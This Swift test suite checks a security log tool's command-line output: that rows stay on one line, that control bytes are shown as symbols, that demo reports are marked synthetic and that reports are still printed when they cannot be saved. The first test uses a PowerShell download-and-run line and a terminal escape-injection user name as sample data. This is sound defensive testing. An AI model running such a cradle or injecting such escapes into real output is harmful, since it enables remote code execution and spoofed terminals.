import Foundation
import Testing

/// What the command line shows a person: one line per table row whatever the data, marked demo reports, reports
/// written to a file, and a finished investigation never thrown away.
@Suite struct ReadableOutputTests {
    let cli: IngestCommandTests

    init() throws { cli = try IngestCommandTests() }

    /// A user name with a terminal escape sequence and a multi-line script block: every row stays one line, and no
    /// escape byte reaches standard output.
    @Test func tableRowsAreOneLineWithControlCharactersShown() throws {
        let log = cli.path("hostile.jsonl")
        let script = "IEX (New-Object Net.WebClient).DownloadString('http://x/a')\\n$a = 1\\nWrite-Host done"
        try """
        {"@timestamp":"2024-02-04T10:15:23Z","event":{"code":"4625","category":["authentication"],"outcome":"failure","action":"logon-failed","module":"security"},"winlog":{"channel":"Security","event_id":"4625","event_data":{"TargetUserName":"\\u001b]0;PWNED\\u0007\\u001b[2J\\u001b[1;31mFAKE ALERT","IpAddress":"203.0.113.9"}},"host":{"name":"WS-1"},"user":{"name":"\\u001b]0;PWNED\\u0007\\u001b[2J\\u001b[1;31mFAKE ALERT"},"source":{"ip":"203.0.113.9"}}
        {"@timestamp":"2024-02-04T10:16:00Z","event":{"code":"4104","category":["process"],"action":"script-block-logged","module":"powershell"},"winlog":{"channel":"Microsoft-Windows-PowerShell/Operational","event_id":"4104","event_data":{"ScriptBlockText":"\(script)"}},"host":{"name":"WS-1"}}

        """.write(toFile: log, atomically: true, encoding: .utf8)
        #expect(try cli.run(["ingest", "--store", "t.db", log]).status == 0)
        let failed = try cli.run(["query", "failed-logins", "--store", "t.db", "--all"])
        #expect(failed.status == 0, "\(failed.stderr)")
        #expect(!failed.stdout.contains("\u{1B}") && !failed.stdout.contains("\u{07}"))
        #expect(failed.stdout.contains("␛]0;PWNED␇"))
        #expect(failed.stdout.split(separator: "\n").count == 3)  // header, rule, one row
        // stats, search and report list show the same values without their escape sequences.
        for arguments in [["stats", "--store", "t.db"], ["search", "--store", "t.db", "--all", "event.code:4625"]] {
            let run = try cli.run(arguments)
            #expect(run.status == 0 && run.stdout.contains("␛]0;PWNED␇"), "\(arguments): \(run.stdout)")
            #expect(!run.stdout.contains("\u{1B}") && !run.stdout.contains("\u{07}"), "\(arguments)")
        }
        let processes = try cli.run(["query", "processes", "--store", "t.db", "--all"])
        #expect(processes.status == 0, "\(processes.stderr)")
        let rows = processes.stdout.split(separator: "\n")
        #expect(rows.count == 3, "\(processes.stdout)")
        #expect(rows.last?.contains("(PowerShell script)") == true)
        #expect(rows.last?.contains("IEX (New-Object") == true)
    }

    /// The demo's report says it is synthetic, in its JSON and its title; `report show --output` writes Markdown.
    @Test func demoReportsAreMarkedAndCanBeWrittenToAFile() throws {
        let demo = try cli.run(["demo", "--json"])
        #expect(demo.status == 0, "\(demo.stderr)")
        let report = try #require(demo.json)
        #expect(report["synthetic"] as? Bool == true)
        let id = try #require(report["incident_id"] as? String)
        let shown = try cli.run(["report", "show", id])
        #expect(shown.stdout.hasPrefix("# \(id) — CRITICAL — DEMO (synthetic data)"))
        let written = try cli.run(["report", "show", id, "--output", "incident.md"])
        #expect(written.status == 0, "\(written.stderr)")
        let file = try String(contentsOfFile: cli.path("incident.md"), encoding: .utf8)
        #expect(file == shown.stdout)
        let mode = try FileManager.default.attributesOfItem(atPath: cli.path("incident.md"))[.posixPermissions] as? Int
        #expect(mode == 0o600)
    }

    /// An unwritable reports folder: the report is printed all the same, and the error says it was not saved.
    @Test func aReportThatCannotBeSavedIsStillShown() throws {
        try "not a folder".write(toFile: cli.path("blocked"), atomically: true, encoding: .utf8)
        let log = cli.path("one.log")
        try "Dec 10 06:55:46 LabSZ sshd[24200]: Failed password for root from 203.0.113.9 port 22 ssh2\n".write(
            toFile: log,
            atomically: true,
            encoding: .utf8
        )
        #expect(try cli.run(["ingest", log]).status == 0)
        let run = try cli.run([
            "analyze", "--offline", "--json", "--report-dir", "blocked/reports", "Failed password for root",
        ])
        #expect(run.status == 1)
        #expect(run.json?["severity"] as? String == "LOW")
        #expect(run.stderr.contains("the report was not saved"))
    }

    /// An empty window says what to try next, not what was already given.
    @Test func anEmptyWindowSuggestsWhatWasNotTried() throws {
        let log = cli.path("one.log")
        try "Dec 10 06:55:46 LabSZ sshd[24200]: Failed password for root from 203.0.113.9 port 22 ssh2\n".write(
            toFile: log,
            atomically: true,
            encoding: .utf8
        )
        #expect(try cli.run(["ingest", "--year", "2025", log]).status == 0)
        let given = try cli.run(["query", "failed-logins", "--since", "2020-01-01", "--until", "2020-01-02"])
        #expect(given.stderr.contains("widen --since/--until, or use --all"), "\(given.stderr)")
        let defaulted = try cli.run(["query", "failed-logins", "--now", "2021-01-01"])
        #expect(defaulted.stderr.contains("use --all, or --since/--until within that range"), "\(defaulted.stderr)")
    }
}
